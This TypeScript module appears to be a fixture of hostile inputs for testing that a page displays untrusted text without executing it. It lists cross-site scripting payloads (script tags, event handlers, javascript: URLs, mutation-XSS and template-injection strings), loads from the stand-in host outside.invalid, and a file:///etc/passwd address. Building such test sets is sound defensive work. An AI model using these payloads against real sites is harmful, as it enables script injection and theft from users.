// Texts that a page must show as they are, and do nothing else with.

/** What a text may break out of. */
export const closings = [
  ...['', '"', "'", '`', '">', "'>", '-->', ']]>', '*/', '"""', '\\"', '\\u003c/script\\u003e'],
  ...['</script>', '</textarea>', '</title>', '</style>', '</noscript>'],
];

/** What it may have run, or have fetched from elsewhere, if it were taken for markup. */
export const attacks = [
  '<script>strike()</script>',
  '<script src=//outside.invalid/x.js></script>',
  '<img src=x onerror=strike()>',
  '<img src=//outside.invalid/x.png>',
  '<svg onload=strike()>',
  '<svg><script>strike()</script></svg>',
  '<svg><animate onbegin=strike() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.strike()</script>"></iframe>',
  '<iframe src="javascript:parent.strike()"></iframe>',
  '<a href="javascript:strike()" autofocus>x</a>',
  '<details open ontoggle=strike()>',
  '<input autofocus onfocus=strike()>',
  '<video><source onerror=strike()></video>',
  '<object data="javascript:strike()"></object>',
  '<embed src="javascript:strike()">',
  '<form action="javascript:strike()"><input type=image src=x></form>',
  '<base href="//outside.invalid/">',
  '<link rel=stylesheet href=//outside.invalid/x.css>',
  '<style>@import "//outside.invalid/x.css";</style>',
  '<meta http-equiv=refresh content="0;url=//outside.invalid/">',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=strike()>">',
  '<noscript><p title="</noscript><img src=x onerror=strike()>">',
  '<template><img src=x onerror=strike()></template>',
  'javascript:strike()',
  'http://outside.invalid/x.png',
  '[x](javascript:strike())',
  '![x](http://outside.invalid/x.png)',
  '{{constructor.constructor("strike()")()}}',
  `\${strike()}`,
  '&lt;img src=x onerror=strike()&gt;',
];
/** What looks like an address that does something. */
const schemes = [
  ...['javascript:strike()', 'JaVaScRiPt:strike()', ' javascript:strike()', 'java\u200bscript:strike()'],
  ...[
    'data:text/html,<script>strike()</script>',
    'vbscript:strike()',
    'blob:http://outside.invalid/x',
    'file:///etc/passwd',
  ],
  ...['//outside.invalid/x', 'view-source:http://outside.invalid/', 'mailto:x@outside.invalid?body=x', 'tel:+0'],
];

/** Addresses of documents: the first is a page's, the others would do something else. */
export const hostileAddresses = [
  'http://outside.invalid/"onmouseover="strike()',
  ...schemes.filter(address => URL.canParse(address)),
];

const unseen = [
  ...['\u202eesrever', 'a\u202edcb\u202c', '\u2066x\u2069', '\u061cx', '\u200fאב'],
  ...['zero\u200bwidth', 'join\u200der', '\u2060word', '\ufeffmark', 'soft\u00adhyphen', 'tag\u{e0041}s'],
];

const longWords = [
  ...[
    'W'.repeat(400),
    '漢'.repeat(300),
    'ก'.repeat(300),
    '🏳️‍🌈'.repeat(80),
    `https://outside.invalid/${'a'.repeat(500)}`,
  ],
  ...['no\u00a0break\u00a0'.repeat(40), 'x_'.repeat(200), '-'.repeat(300), '﷽'.repeat(20), 'ÿ'.repeat(300)],
];

const marks = [
  'Z\u0301'.repeat(40),
  `Z${'\u0301\u0332'.repeat(60)}`,
  'e\u0300\u0489'.repeat(30),
  'ᄀ'.repeat(60),
  '\u0e01\u0e49\u0e49\u0e49',
];

const quotes = ['"', "''", '`x`', '«»', '\\', '\\\\"', '&quot;', '&#34;', '%22', '?a=1&b=2#c'];

const templates = [
  '{{7*7}}',
  `\${7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '{% raw %}',
  '%s%n%x',
  '{0}',
  '[[x]]',
  '$(x)',
  '*x* _x_ # x',
];

const words = [
  ...['null', 'undefined', 'NaN', 'None', 'true', 'false', '0', '-1', '[object Object]', 'constructor'],
  ...['__proto__', 'toString', 'hasOwnProperty', 'prototype', 'then', 'length'],
];

/** Two hundred, of every sort. */
export const hostileTexts = [...schemes, ...unseen, ...longWords, ...marks, ...quotes, ...templates, ...words]
  .concat(
    closings.flatMap(closing => attacks.map(attack => `${closing}${attack}`)).filter((_, index) => index % 4 === 0),
  )
  .slice(0, 200);
